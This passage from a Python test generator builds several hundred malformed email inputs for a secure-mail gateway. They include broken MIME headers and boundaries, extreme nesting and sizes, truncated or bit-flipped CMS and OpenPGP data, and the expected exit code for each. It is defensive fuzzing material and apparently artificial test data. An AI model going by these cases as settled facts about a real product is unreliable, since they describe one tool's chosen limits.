                     b"Content-Type: text/plain\r\n", 1),
      DATAERR, "two Content-Type fields in the signature part")
    A("no-cte-gcm", drop_fields(gcm, "Content-Transfer-Encoding"), DATAERR,
      "base64 CMS body without CTE: read as 7bit, not BER", secret_ok=False)
    A("unknown-cte-gcm", set_field(gcm, "Content-Transfer-Encoding", b"x-uuencode"), DATAERR,
      "unknown transfer encoding: the body is opaque", secret_ok=False)
    A("qp-cte-gcm", set_field(gcm, "Content-Transfer-Encoding", b"quoted-printable"), DATAERR,
      "quoted-printable declared over base64 text", secret_ok=False)
    A("cte-with-comment-gcm", set_field(gcm, "Content-Transfer-Encoding", b"base64 (encoded)"),
      [OK, DATAERR], "CTE with an RFC 822 comment", secret_ok=True)
    A("cte-uppercase-gcm", set_field(gcm, "Content-Transfer-Encoding", b"BASE64"), OK,
      "CTE values are case-insensitive", secret_ok=True)
    A("base64-cte-on-multipart", add_field(drop_fields(signed, "Content-Transfer-Encoding"),
      b"Content-Transfer-Encoding: base64", at=len(split_msg(signed)[0])), [OK, DATAERR, NOPERM],
      "multipart/signed declared base64 (RFC 2045 forbids it)")
    A("dup-mime-version", add_field(plain, b"MIME-Version: 1.0"), [OK, DATAERR],
      "MIME-Version twice")
    A("no-mime-version-gcm", drop_fields(gcm, "MIME-Version"), [OK, DATAERR],
      "no MIME-Version on a message encrypted to alice", secret_ok=True)
    A("mime-version-2-gcm", set_field(gcm, "MIME-Version", b"2.0"), [OK, DATAERR],
      "MIME-Version 2.0", secret_ok=True)
    A("empty-content-type-gcm", set_field(gcm, "Content-Type", b""), [OK, DATAERR],
      "empty Content-Type: not pkcs7-mime, so not decrypted", secret_ok=False)
    A("garbage-content-type-gcm", set_field(gcm, "Content-Type", b"garbage"), [OK, DATAERR],
      "Content-Type without a slash: octet-stream, not decrypted", secret_ok=False)
    A("pkcs7-no-smime-type", set_field(gcm, "Content-Type", b"application/pkcs7-mime"),
      [OK, DATAERR], "pkcs7-mime without smime-type: the CMS says what it is", secret_ok=True)
    A("smime-type-mismatch", set_field(gcm, "Content-Type",
      b"application/pkcs7-mime; smime-type=signed-data"), [OK, DATAERR, NOPERM],
      "smime-type says signed-data, the CMS is AuthEnvelopedData", secret_ok=True)
    A("x-pkcs7-mime", set_field(gcm, "Content-Type",
      b"application/x-pkcs7-mime; smime-type=authEnveloped-data"), OK,
      "the legacy x-pkcs7-mime type", secret_ok=True)
    A("uppercase-content-type", set_field(gcm, "Content-Type",
      b"APPLICATION/PKCS7-MIME; SMIME-TYPE=authEnveloped-data"), OK,
      "types are case-insensitive", secret_ok=True)
    A("content-type-comments", set_field(gcm, "Content-Type",
      b"application/pkcs7-mime (encrypted) ; (x) smime-type=authEnveloped-data"), [OK, DATAERR],
      "comments inside Content-Type", secret_ok=True)
    A("signed-no-protocol",
      signed.replace(b'protocol="application/pkcs7-signature"; ', b"", 1), [OK, DATAERR],
      "multipart/signed without protocol: not S/MIME, treated as an opaque multipart")
    A("signed-protocol-pgp-smime-sig",
      signed.replace(b'protocol="application/pkcs7-signature"', b'protocol="application/pgp-signature"', 1),
      [DATAERR, NOPERM], "protocol says OpenPGP, the signature part is S/MIME")
    A("signed-micalg-lie",
      signed.replace(b'micalg="sha-256"', b'micalg="md5"', 1), [OK, NOPERM],
      "micalg names md5, the signature is SHA-256 (micalg is advisory)")
    A("signed-x-protocol",
      signed.replace(b'protocol="application/pkcs7-signature"', b'protocol="application/x-pkcs7-signature"', 1),
      OK, "the legacy x-pkcs7-signature protocol")
    A("encrypted-no-protocol",
      pgp_enc.replace(b'\r\n protocol="application/pgp-encrypted";', b"", 1), [OK, DATAERR],
      "multipart/encrypted without protocol: opaque, not decrypted", secret_ok=False)

    # --- C. Boundaries ----------------------------------------------------------------
    close = b"--" + sb + b"--"
    A("signed-unterminated", signed.replace(close, b"", 1), DATAERR,
      "multipart/signed without its close delimiter")
    A("signed-close-garbage", signed.replace(close, close + b"x", 1), DATAERR,
      "close delimiter followed by text: not a delimiter, so unterminated")
    A("signed-boundary-mismatch", signed.replace(b'boundary="' + sb, b'boundary="other', 1),
      DATAERR, "the boundary parameter matches no delimiter")
    A("signed-no-boundary", signed.replace(b'; boundary="' + sb + b'"', b"", 1), DATAERR,
      "multipart/signed without a boundary parameter")
    A("signed-empty-boundary", signed.replace(b'boundary="' + sb + b'"', b'boundary=""', 1),
      DATAERR, "empty boundary parameter")
    A("signed-unbalanced-quote", signed.replace(b'boundary="' + sb + b'"', b'boundary="' + sb, 1),
      [OK, DATAERR, NOPERM], "the boundary's closing quote is missing (lenient readers accept it)")
    parts = signed.split(b"\r\n--" + sb)
    one_part = parts[0] + b"\r\n--" + sb + parts[1] + b"\r\n" + close + b"\r\n"
    A("signed-one-part", one_part, DATAERR, "multipart/signed with only the signed part")
    three = signed.replace(close, b"--" + sb + b"\r\nContent-Type: text/plain\r\n\r\nthird\r\n" + close, 1)
    A("signed-three-parts", three, DATAERR, "multipart/signed with a third part")
    A("signed-zero-parts", parts[0] + b"\r\n" + close + b"\r\n", DATAERR,
      "multipart/signed with only a close delimiter")
    A("signed-transport-padding", signed.replace(b"\r\n--" + sb + b"\r\n", b"\r\n--" + sb + b"  \t\r\n"),
      OK, "delimiter lines with transport padding (RFC 2046 allows it)")
    A("signed-epilogue-garbage", signed + b"epilogue\r\n--" + sb + b"\r\nmore\r\n", OK,
      "text and a stray delimiter after the close delimiter (epilogue)")
    A("signed-preamble-lookalike", signed.replace(b"This is an S/MIME signed message",
      b"--" + sb + b"x\r\n--" + sb + b"-\r\nThis is an S/MIME signed message", 1), OK,
      "preamble lines that start like the delimiter but are not")
    A("signed-long-boundary-200", signed.replace(sb, b"b" * 200), OK,
      "a 200-character boundary (RFC 2046 says 70; the gateway's bound is 200)")
    A("signed-long-boundary-201", signed.replace(sb, b"b" * 201), [OK, DATAERR],
      "a 201-character boundary, over the gateway's bound")
    A("sig-part-octet-stream", signed.replace(b'Content-Type: application/pkcs7-signature; name="smime.p7s"',
      b"Content-Type: application/octet-stream", 1), DATAERR,
      "the signature part has type application/octet-stream")
    A("sig-part-text-plain", signed.replace(b'Content-Type: application/pkcs7-signature; name="smime.p7s"',
      b"Content-Type: text/plain", 1), DATAERR, "the signature part has type text/plain")
    A("sig-part-no-type", signed.replace(b'Content-Type: application/pkcs7-signature; name="smime.p7s"\r\n',
      b"", 1), DATAERR, "the signature part has no Content-Type (text/plain)")
    A("sig-part-pkcs7-mime", signed.replace(b'Content-Type: application/pkcs7-signature; name="smime.p7s"',
      b"Content-Type: application/pkcs7-mime; smime-type=signed-data", 1), DATAERR,
      "the signature part is typed pkcs7-mime")
    A("sig-part-no-cte", signed.replace(b"Content-Transfer-Encoding: base64\r\n", b"", 1), DATAERR,
      "the signature part has no CTE: base64 text read as BER")
    p1 = signed.index(b"--" + sb + b"\r\n") + len(sb) + 4
    p2 = signed.index(b"\r\n--" + sb, p1)
    A("signed-empty-first-part", signed[:p1] + signed[p2:], NOPERM,
      "the signed part is empty: the digest does not match")
    A("nested-same-boundary", msg(b'multipart/mixed; boundary="X"', multipart(b"X", [
        b'Content-Type: multipart/alternative; boundary="X"\r\n\r\n--X\r\n\r\ninner\r\n--X--',
        b"Content-Type: text/plain\r\n\r\nafter"])), [OK, DATAERR],
      "a nested multipart reuses the parent's boundary")
    A("mixed-unterminated", attach.replace(b"--" + boundary_of(attach) + b"--", b"", 1), [OK, DATAERR],
      "multipart/mixed without its close delimiter")
    A("mixed-no-boundary", attach.replace(b'; boundary="' + boundary_of(attach) + b'"', b"", 1),
      [OK, DATAERR], "multipart/mixed without a boundary parameter")
    A("alternative-boundary-mismatch", html.replace(b'boundary="' + boundary_of(html), b'boundary="zz', 1),
      [OK, DATAERR], "multipart/alternative whose parameter matches no delimiter")
    pb = b"=_reseal_pgp_enc_0001"
    A("pgp-enc-unterminated", pgp_enc.replace(b"--" + pb + b"--", b"", 1), DATAERR,
      "PGP/MIME encrypted without its close delimiter", secret_ok=False)
    ep = pgp_enc.split(b"\r\n--" + pb)
    A("pgp-enc-one-part", ep[0] + b"\r\n--" + pb + ep[2] + b"\r\n--" + pb + b"--\r\n", DATAERR,
      "PGP/MIME encrypted without the version part", secret_ok=False)
    A("pgp-enc-three-parts", pgp_enc.replace(b"--" + pb + b"--", b"--" + pb + b"\r\n\r\nthird\r\n--" + pb + b"--", 1),
      DATAERR, "PGP/MIME encrypted with a third part", secret_ok=False)
    A("pgp-enc-swapped", ep[0] + b"\r\n--" + pb + ep[2] + b"\r\n--" + pb + ep[1] + b"\r\n--" + pb + b"--\r\n",
      DATAERR, "data part first, version part second", secret_ok=False)
    A("pgp-enc-version-2", pgp_enc.replace(b"Version: 1", b"Version: 2", 1), [OK, DATAERR, NOPERM],
      "the version part says Version: 2", secret_ok=True)
    psb = boundary_of(pgp_signed)
    sp = pgp_signed.split(b"\r\n--" + psb)
    A("pgp-signed-one-part", sp[0] + b"\r\n--" + psb + sp[1] + b"\r\n--" + psb + b"--\r\n", DATAERR,
      "PGP/MIME signed without the signature part")
    A("pgp-signed-unterminated", pgp_signed.replace(b"--" + psb + b"--", b"", 1), DATAERR,
      "PGP/MIME signed without its close delimiter")
    A("pgp-signed-three-parts", pgp_signed.replace(b"--" + psb + b"--", b"--" + psb + b"\r\n\r\nthird\r\n--" + psb + b"--", 1),
      DATAERR, "PGP/MIME signed with a third part")
    A("pgp-sig-part-wrong-type", pgp_signed.replace(b"Content-Type: application/pgp-signature", b"Content-Type: text/plain", 1),
      DATAERR, "the PGP signature part is typed text/plain")

    # --- D. Nesting and counts ------------------------------------------------------------
    def nest_mixed(depth, leaf=b"Content-Type: text/plain\r\n\r\nleaf\r\n"):
        ent = leaf
        for i in range(depth):
            bnd = b"n%d" % i
            ent = b'Content-Type: multipart/mixed; boundary="' + bnd + b'"\r\n\r\n' + multipart(bnd, [ent])
        return ent

    def nest_rfc822(depth):
        ent = b"Content-Type: text/plain\r\n\r\nleaf\r\n"
        for _ in range(depth):
            ent = b"Content-Type: message/rfc822\r\n\r\n" + HDR + ent
        return ent

    A("nest-mixed-200", HDR + nest_mixed(200), [OK, DATAERR], "multipart/mixed nested 200 deep")
    A("nest-mixed-33", HDR + nest_mixed(33), [OK, DATAERR], "nested 33 deep (over the tree bound of 32)")
    A("nest-rfc822-200", HDR + nest_rfc822(200), [OK, DATAERR], "message/rfc822 nested 200 deep")
    A("nest-mixed-2000-unterminated", HDR + b"".join(
        b'Content-Type: multipart/mixed; boundary="u%d"\r\n\r\n--u%d\r\n' % (i, i) for i in range(2000)),
      [OK, DATAERR], "2000 nested multiparts, none terminated")
    deep = nest_mixed(200, b"Content-Type: text/plain\r\n\r\nsigned deep leaf\r\n")
    deep_sig = t.cms_sign(deep)
    sb2 = b"deepsigned"
    A("signed-nest-200", msg(b'multipart/signed; protocol="application/pkcs7-signature"; micalg="sha-256"; boundary="'
      + sb2 + b'"', multipart(sb2, [deep, b"Content-Type: application/pkcs7-signature\r\n"
      b"Content-Transfer-Encoding: base64\r\n\r\n" + b64(deep_sig)])), [OK, DATAERR],
      "a valid signature by alice over 200 nested multiparts")
    flat = [b"Content-Type: text/plain\r\n\r\np%d" % i for i in range(1000)]
    A("mixed-1000-parts", msg(b'multipart/mixed; boundary="f"', multipart(b"f", flat)), [OK, DATAERR],
      "1000 parts (the bound)")
    A("mixed-1001-parts", msg(b'multipart/mixed; boundary="f"', multipart(b"f", flat + [b"\r\nlast"])),
      [OK, DATAERR], "1001 parts")
    A("mixed-3000-empty-parts", msg(b'multipart/mixed; boundary="f"', b"--f\r\n" * 3000 + b"--f--\r\n"),
      [OK, DATAERR], "3000 empty parts")
    # Opaque signed-data layers: 6 is the bound on crypto layers.
    ent = inner_entity(plain)
    layers = []
    for i in range(7):
        d = t.cms_sign(ent, detached=False)
        ent = (b'Content-Type: application/pkcs7-mime; smime-type=signed-data; name="smime.p7m"\r\n'
               b"Content-Transfer-Encoding: base64\r\n\r\n" + b64(d))
        layers.append(ent)
    A("opaque-signed-6-layers", hdr_of(opaque) + layers[5], OK,
      "six opaque signed-data layers by alice (the layer bound); the content is signed, not secret",
      secret_ok=True)
    A("opaque-signed-7-layers", hdr_of(opaque) + layers[6], [DATAERR, NOPERM],
      "seven opaque signed-data layers: over the bound of six")
    e3 = inner_entity(plain)
    for i in range(3):
        d = t.cms_encrypt(e3, cipher="-aes-256-gcm")
        e3 = (b"Content-Type: " + ENC_CT + b"\r\nContent-Transfer-Encoding: base64\r\n\r\n" + b64(d))
    A("gcm-3-layers", hdr_of(gcm) + e3, OK, "three AES-GCM layers to alice", secret_ok=True)
    ent = b"Content-Type: text/plain\r\n\r\n"
    A("fields-1000", HDR + b"".join(b"X-F%d: v\r\n" % i for i in range(1000 - 6)) + b"\r\nbody\r\n", OK,
      "exactly 1000 header fields (the bound)")
    A("fields-1001", HDR + b"".join(b"X-F%d: v\r\n" % i for i in range(1001 - 6)) + b"\r\nbody\r\n",
      [DATAERR, NOPERM], "1001 header fields")
    A("fields-5000", HDR + b"".join(b"X-F%d: v\r\n" % i for i in range(5000)) + b"\r\nbody\r\n",
      [DATAERR, NOPERM], "5000 header fields")
    A("fields-5000-on-signed", b"".join(b"X-F%d: v\r\n" % i for i in range(5000)) + signed,
      [DATAERR, NOPERM], "5000 header fields before a signed message")

    # --- E. Huge inputs (expanded at test time) -------------------------------------------
    A("header-line-2mb", HDR + b"Subject: @@EXPAND@@\r\nContent-Type: text/plain\r\n\r\nbody\r\n",
      [DATAERR, NOPERM], "a 2 MiB Subject line (the header block bound is 1 MiB)",
      expand=[{"marker": "@@EXPAND@@", "unit": "a", "count": 2 * 1024 * 1024}])
    A("header-folded-100k", HDR + b"Subject: start\r\n@@EXPAND@@Content-Type: text/plain\r\n\r\nbody\r\n",
      [OK, DATAERR, NOPERM], "a Subject folded over 100,000 lines (300 KB)",
      expand=[{"marker": "@@EXPAND@@", "unit": " x\r\n", "count": 100000}])
    A("header-block-just-over-1mb", HDR + b"X-Big: @@EXPAND@@\r\nContent-Type: text/plain\r\n\r\nbody\r\n",
      [DATAERR, NOPERM], "one field just over 1 MiB",
      expand=[{"marker": "@@EXPAND@@", "unit": "b", "count": 1024 * 1024 + 10}])
    A("body-line-1mb", HDR + b"Content-Type: text/plain\r\n\r\n@@EXPAND@@\r\n", [OK, DATAERR, NOPERM],
      "a 1 MiB body line", expand=[{"marker": "@@EXPAND@@", "unit": "c", "count": 1024 * 1024}])
    A("body-line-1mb-signed-part", signed.replace(b"Regards,", b"@@EXPAND@@", 1), NOPERM,
      "a 1 MiB line inserted into the signed part: the digest fails",
      expand=[{"marker": "@@EXPAND@@", "unit": "d", "count": 1024 * 1024}])
    A("base64-1mb-line-pkcs7", gcm_hdr + b"Content-Type: " + ENC_CT + b"\r\nContent-Transfer-Encoding: base64\r\n\r\n@@EXPAND@@\r\n",
      DATAERR, "1 MiB of 'A' as a single base64 line: zeros, not BER", secret_ok=False,
      expand=[{"marker": "@@EXPAND@@", "unit": "AAAA", "count": 256 * 1024}])
    A("content-type-10000-params", set_field(plain, "Content-Type",
      b"text/plain; charset=us-ascii" + b"".join(b"; p%d=v" % i for i in range(10000))), [OK, DATAERR, NOPERM],
      "Content-Type with 10,000 parameters")
    A("content-type-deep-comments", set_field(gcm, "Content-Type",
      b"(" * 100000 + b"x" + b")" * 100000 + b" " + ENC_CT), [OK, DATAERR, NOPERM],
      "100,000 nested comments before the type", secret_ok=True)
    A("message-over-64mib", HDR + b"Content-Type: text/plain\r\n\r\n@@EXPAND@@", NOPERM,
      "64 MiB + 1 KiB: over the message size bound (5.3.4)",
      expand=[{"marker": "@@EXPAND@@", "unit": "z" * 1023 + "\n", "count": 64 * 1024 + 1}])
    A("gcm-base64-no-newlines", with_der(gcm, b"") .replace(b"\r\n\r\n", b"\r\n\r\n" + base64.b64encode(gcm_der) + b"\r\n", 1),
      OK, "the whole CMS as one base64 line", secret_ok=True)
    A("gcm-base64-spaces", join_msg(split_msg(gcm)[0], body_of(gcm).replace(b"A", b" A")), OK,
      "spaces inside base64 lines (whitespace is ignored)", secret_ok=True)

    # --- F. Encodings ----------------------------------------------------------------------
    body = body_of(gcm)
    A("base64-bad-char", join_msg(split_msg(gcm)[0], body[:100] + b"*" + body[100:]), [OK, DATAERR],
      "one character outside the base64 alphabet (RFC 2045 says to ignore it)", secret_ok=True)
    A("base64-pad-in-middle", join_msg(split_msg(gcm)[0], body[:64] + b"====" + body[64:]),
      [OK, DATAERR, NOPERM], "padding in the middle of base64", secret_ok=False)
    for cut in (1, 2, 3):
        flatb = re.sub(rb"\s+", b"", body).rstrip(b"=")
        A(f"base64-short-{cut}", join_msg(split_msg(gcm)[0], flatb[:-cut] + b"\r\n"),
          DATAERR, f"the base64 text lost its last {cut} characters: truncated DER", secret_ok=False)
    A("qp-bad-escapes", msg(b"text/plain; charset=utf-8", b"a =ZZ b =4 c =\r\nd =", cte=b"quoted-printable"),
      OK, "quoted-printable with invalid escapes and a soft break at the end")
    A("qp-signed-part-altered", vs("openssl-signed-qp.eml").replace(b"=C3=BC", b"=C3=BD", 1), NOPERM,
      "one QP escape changed in a signed part")
    A("plain-base64-bad-chars", msg(b"text/plain", b"@@@@ not base64 @@@@\r\n", cte=b"base64"),
      [OK, DATAERR], "a text/plain body declared base64 that is not base64")
    A("8bit-in-7bit", msg(b"text/plain; charset=utf-8", "Grüße\r\n".encode(), cte=b"7bit"), OK,
      "8-bit text declared 7bit")
    raw_der_msg = gcm_hdr + b"Content-Type: " + ENC_CT + b"\r\nContent-Transfer-Encoding: binary\r\n\r\n" + gcm_der
    A("cte-binary-raw-der", raw_der_msg, [OK, DATAERR, NOPERM],
      "raw DER with CTE binary (CRLF canonicalisation may alter it)", secret_ok=True)
    A("qp-body-pkcs7", set_field(gcm, "Content-Transfer-Encoding", b"quoted-printable")
      .replace(body, body.replace(b"=", b"=3D")), DATAERR, "base64 text wrapped again in QP", secret_ok=False)

    # --- G. CMS surgery ----------------------------------------------------------------------
    seeds = [
        ("gcm", gcm, gcm_der, True, True),
        ("cbc", cbc, cbc_der, False, True),
        ("opaque", opaque, opaque_der, None, False),
    ]
    for tag, seed_raw, d, auth, secret in seeds:
        for off in offsets(len(d), 18, len(d)):
            A(f"cms-{tag}-trunc-{off}", with_der(seed_raw, d[:off]), DATAERR,
              f"{tag} DER truncated to {off} of {len(d)} bytes", secret_ok=False)
    for off in offsets(len(sig_der), 14, 7):
        A(f"cms-sig-trunc-{off}", replace_sig(signed, b64(sig_der[:off])), DATAERR,
          f"detached signature DER truncated to {off} of {len(sig_der)} bytes")
    for off in offsets(len(gpgsm_der), 10, 11):
        A(f"cms-gpgsm-ber-trunc-{off}", with_der(gpgsm_enc, gpgsm_der[:off]), DATAERR,
          f"gpgsm's indefinite-length BER truncated to {off} of {len(gpgsm_der)} bytes", secret_ok=False)

    def flips(tag, seed_raw, d, regions, base_codes, count, seed, secret_when_ok, sig=False):
        r = rng(seed)
        for off in offsets(len(d), count, seed):
            mask = 1 << r.randrange(8)
            bad = bytearray(d)
            bad[off] ^= mask
            name, code = region_of(regions, off)
            if name is not None:
                exit, why = code, f"inside {name}: uniform failure"
            else:
                exit, why = base_codes, "structure byte: parse error, refusal or (for a field nothing checks) delivery"
            data = replace_sig(seed_raw, b64(bytes(bad))) if sig else with_der(seed_raw, bytes(bad))
            A(f"cms-{tag}-flip-{off}", data, exit, f"{tag}: byte {off} XOR {mask:#04x}, {why}",
              secret_ok=secret_when_ok and name is None)

    flips("gcm", gcm, gcm_der, classify_enveloped(gcm_der, True), ANY, 22, 101, True)
    flips("cbc", cbc, cbc_der, classify_enveloped(cbc_der, False), [DATAERR, NOPERM], 14, 102, False)
    sreg = [(s, e, n, NOPERM if n != "signedAttrs" else [DATAERR, NOPERM]) for s, e, n, _ in classify_signed(opaque_der)]
    flips("opaque", opaque, opaque_der, sreg, ANY, 18, 103, True)
    sreg = [(s, e, n, NOPERM if n != "signedAttrs" else [DATAERR, NOPERM]) for s, e, n, _ in classify_signed(sig_der)]
    flips("sig", signed, sig_der, sreg, ANY, 18, 104, True, sig=True)
    flips("gpgsm-ber", gpgsm_enc, gpgsm_der, [], [DATAERR, NOPERM], 10, 105, False)

    for n in (1, 2, 16, 100, 1000, 65536):
        A(f"cms-random-{n}", with_der(gcm, bytes(rng(n).randrange(256) for _ in range(n))), DATAERR,
          f"{n} random bytes as a CMS body", secret_ok=False)
    A("cms-random-seq-header", with_der(gcm, b"\x30\x82\x10\x00" + bytes(rng(5).randrange(256) for _ in range(4096))),
      DATAERR, "a SEQUENCE header followed by random bytes", secret_ok=False)
    A("cms-length-4gib", with_der(gcm, b"\x30\x84\xff\xff\xff\xff" + gcm_der[4:]), DATAERR,
      "outer length 4 GiB", secret_ok=False)
    A("cms-length-64bit", with_der(gcm, b"\x30\x88" + b"\xff" * 8 + gcm_der[4:]), DATAERR,
      "outer length in 8 bytes", secret_ok=False)
    A("cms-ber-nest-100k", with_der(gcm, b"\x30\x80" * 100000), DATAERR,
      "100,000 nested indefinite-length SEQUENCEs (stack depth)", secret_ok=False)
    deepdef = b"\x05\x00"
    for _ in range(5000):
        deepdef = der(0x30, deepdef)
    A("cms-der-nest-5000",
      with_der(gcm, der(0x30, bytes.fromhex("060b2a864886f70d0109100117") + der(0xA0, deepdef))),
      DATAERR, "AuthEnvelopedData OID with 5,000 nested SEQUENCEs as content", secret_ok=False)
    data_oid = bytes.fromhex("06092a864886f70d010701")
    A("cms-content-type-data", with_der(gcm, der(0x30, data_oid + der(0xA0, der(0x04, inner_entity(plain))))),
      [DATAERR, NOPERM], "a ContentInfo of type id-data (not protection)", secret_ok=True)
    A("cms-content-type-digested", with_der(gcm, der(0x30, bytes.fromhex("06092a864886f70d010705") + der(0xA0, der(0x30, b"")))),
      [DATAERR, NOPERM], "a ContentInfo of type digestedData", secret_ok=False)
    A("cms-content-type-encrypted", with_der(gcm, der(0x30, bytes.fromhex("06092a864886f70d010706") + der(0xA0, der(0x30, b"")))),
      [DATAERR, NOPERM], "a ContentInfo of type encryptedData (password-based)", secret_ok=False)

    # EnvelopedData edits with lengths fixed.
    oid_b, aed = cms_inner(gcm_der)
    eci_node = [c for c in aed.children if c.tag == 0x30][0]
    ec = eci_node.children[2]
    mac = aed.children[-1]
    ris = [c for c in aed.children if c.tag == 0x31][0]
    ctv = gcm_der[ec.vstart:ec.end]
    A("gcm-ct-short-1", with_der(gcm, rebuild(gcm_der, ec, ctv[:-1])), NOPERM,
      "encryptedContent one byte shorter, lengths fixed: the tag fails", secret_ok=False)
    A("gcm-ct-short-16", with_der(gcm, rebuild(gcm_der, ec, ctv[:-16])), NOPERM,
      "encryptedContent one block shorter, lengths fixed", secret_ok=False)
    A("gcm-ct-empty", with_der(gcm, rebuild(gcm_der, ec, b"")), NOPERM,
      "empty encryptedContent, lengths fixed", secret_ok=False)
    A("gcm-ct-extended", with_der(gcm, rebuild(gcm_der, ec, ctv + b"\x00" * 16)), NOPERM,
      "encryptedContent with 16 extra bytes", secret_ok=False)
    A("gcm-mac-12", with_der(gcm, rebuild(gcm_der, mac, gcm_der[mac.vstart:mac.end][:12])), [DATAERR, NOPERM],
      "a 12-byte tag where the parameters say 16", secret_ok=False)
    A("gcm-mac-empty", with_der(gcm, rebuild(gcm_der, mac, b"")), [DATAERR, NOPERM],
      "an empty tag", secret_ok=False)
    A("gcm-no-recipients", with_der(gcm, rebuild(gcm_der, ris, b"")), [DATAERR, NOPERM],
      "no RecipientInfo at all", secret_ok=False)
    ri_bytes = gcm_der[ris.children[0].start:ris.children[0].end]
    A("gcm-recipient-x2", with_der(gcm, rebuild(gcm_der, ris, ri_bytes * 2)), [OK, NOPERM],
      "alice's RecipientInfo twice", secret_ok=True)
    bob_ri = unb64(body_of(vs("openssl-enc-to-bob-only.eml")))
    _, bed = cms_inner(bob_ri)
    bris = [c for c in bed.children if c.tag == 0x31][0]
    bob_ri_bytes = bob_ri[bris.children[0].start:bris.children[0].end]
    A("gcm-100-foreign-recipients-then-alice", with_der(gcm, rebuild(gcm_der, ris, bob_ri_bytes * 100 + ri_bytes)),
      NOPERM, "100 RecipientInfos for bob, then alice's (over the bound of 64 looked at)", secret_ok=False)
    A("gcm-1000-foreign-recipients", with_der(gcm, rebuild(gcm_der, ris, bob_ri_bytes * 1000)), NOPERM,
      "1,000 RecipientInfos, none for alice", secret_ok=False)
    cert = rd(VS / "alice.pem")
    certs_only = run(["openssl", "crl2pkcs7", "-nocrl", "-certfile", str(VS / "alice.pem"), "-outform", "DER"]).stdout
    A("certs-only", with_der(opaque, certs_only).replace(b"smime-type=signed-data", b"smime-type=certs-only", 1),
      [DATAERR, NOPERM], "a certs-only SignedData (no content, no signer)")
    enc_in_signed = t.cms_sign(gcm_der, detached=False)
    A("opaque-signed-raw-der-content", with_der(opaque, enc_in_signed), [DATAERR, NOPERM],
      "signed-data whose content is raw DER, not a MIME entity", secret_ok=False)

    # --- H. OpenPGP ------------------------------------------------------------------------
    arm = pgp_encrypted_part(pgp_enc)
    bin_ = dearmor(arm)
    pk = pgp_packets(bin_)
    A("pgp-armor-no-crc", pgp_enc.replace(arm, armor(bin_, crc=False)), OK,
      "armor without the optional CRC line", secret_ok=True)
    bad_crc = armor(bin_).replace(b"\r\n=", b"\r\n=AAAA\r\n=", 1)
    bad_crc = re.sub(rb"\r\n=AAAA\r\n=[A-Za-z0-9+/]{4}", b"\r\n=AAAA", bad_crc)
    A("pgp-armor-bad-crc", pgp_enc.replace(arm, bad_crc), [OK, NOPERM],
      "armor whose CRC does not match (data intact; RFC 9580 lets readers ignore the CRC)", secret_ok=True)
    A("pgp-armor-signature-label", pgp_enc.replace(arm, armor(bin_, kind=b"SIGNATURE")), [OK, NOPERM],
      "an encrypted message armored as PGP SIGNATURE", secret_ok=True)
    A("pgp-armor-headers", pgp_enc.replace(arm, armor(bin_, headers=b"Comment: " + b"x" * 100000 + b"\r\nVersion: 9\r\nCharset: utf-8\r\n")),
      [OK, NOPERM], "armor headers, one of them 100 KB", secret_ok=True)
    A("pgp-armor-no-blank", pgp_enc.replace(arm, armor(bin_).replace(b"-----\r\n\r\n", b"-----\r\n", 1)),
      [OK, NOPERM], "armor without the empty line after BEGIN", secret_ok=True)
    A("pgp-armor-no-end", pgp_enc.replace(arm, armor(bin_).replace(b"-----END PGP MESSAGE-----\r\n", b"")),
      [OK, NOPERM], "armor without the END line", secret_ok=True)
    A("pgp-armor-bad-base64", pgp_enc.replace(arm, armor(bin_).replace(b"\r\n", b"\r\n*!*", 4)), NOPERM,
      "characters outside base64 in the armor", secret_ok=False)
    A("pgp-armor-long-lines", pgp_enc.replace(arm, armor(bin_, width=100000)), [OK, NOPERM],
      "armor in one long line", secret_ok=True)
    at = arm.index(b"\r\n\r\n") + 4
    data_end = arm.index(b"\r\n=", at)
    seipd_start = len(pgp_packet(1, pk[0][1])) + 3 + 1  # PKESK, SEIPD header (2-octet length), version

    def panics(avail, truncated=True):
        lo = 18 if truncated else 36
        if lo <= avail <= 39:
            return {}  # sequoia panicked here (parse.rs data_consume_hard); Reseal now catches it
        return {}

    for off in sorted(set(offsets(data_end - at, 14, 201)) | {170, 186}):
        cut = arm[: at + off]
        A(f"pgp-armor-trunc-{off}", pgp_enc.replace(arm, cut + b"\r\n"), NOPERM,
          f"the armored text cut after {off} of {data_end - at} characters of base64 (no CRC, no END)",
          secret_ok=False, **panics(off * 3 // 4 - seipd_start))
    for off in sorted(set(offsets(len(bin_), 16, 202)) | {seipd_start + 18, seipd_start + 30, seipd_start + 39}):
        A(f"pgp-bin-trunc-{off}", pgp_enc.replace(arm, armor(bin_[:off])), NOPERM,
          f"the OpenPGP message cut to {off} of {len(bin_)} bytes (valid armor)", secret_ok=False,
          **panics(off - seipd_start))
    r = rng(203)
    for off in offsets(len(bin_), 22, 204):
        bad = bytearray(bin_)
        mask = 1 << r.randrange(8)
        bad[off] ^= mask
        A(f"pgp-bin-flip-{off}", pgp_enc.replace(arm, armor(bytes(bad))), NOPERM,
          f"byte {off} XOR {mask:#04x} in the OpenPGP message (valid armor): uniform failure",
          secret_ok=False)
    for n in (0, 1, 100, 4096):
        A(f"pgp-random-{n}", pgp_enc.replace(arm, armor(bytes(rng(n + 9).randrange(256) for _ in range(n)))),
          NOPERM, f"{n} random bytes armored as a PGP MESSAGE", secret_ok=False)
    A("pgp-binary-in-part", pgp_enc.replace(arm, b64(bin_)).replace(
        b'Content-Disposition: inline; filename="encrypted.asc"\r\n',
        b'Content-Disposition: inline; filename="encrypted.asc"\r\nContent-Transfer-Encoding: base64\r\n', 1),
      [OK, NOPERM], "the binary (unarmored) message, base64 encoded", secret_ok=True)
    A("pgp-empty-part", pgp_enc.replace(arm, b""), NOPERM, "an empty data part", secret_ok=False)
    A("pgp-cms-in-part", pgp_enc.replace(arm, body_of(gcm)), NOPERM,
      "PGP/MIME encrypted carrying base64 CMS", secret_ok=False)
    A("pgp-unencrypted-literal", pgp_enc.replace(arm, armor(literal(inner_entity(plain)))), NOPERM,
      "multipart/encrypted around an unencrypted literal packet")
    # A SEIPD whose ciphertext is shorter than the MDC plus one block (found by the
    # truncation cases: 36..39 bytes made sequoia panic in Reseal 0.1.0).
    for n in (17, 18, 35, 36, 37, 38, 39, 40, 41):
        A(f"pgp-seipd-ciphertext-{n}", pgp_enc.replace(arm, armor(pgp_packet(1, pk[0][1]) + pgp_packet(18, pk[1][1][: 1 + n]))),
          NOPERM, f"the vector's PKESK and a SEIPD with only {n} ciphertext bytes", secret_ok=False,
          **panics(n, truncated=False))
    A("pgp-huge-length", pgp_enc.replace(arm, armor(pgp_packet(1, pk[0][1]) + b"\xd2\xff\xff\xff\xff\xff\x01" + pk[1][1][1:])),
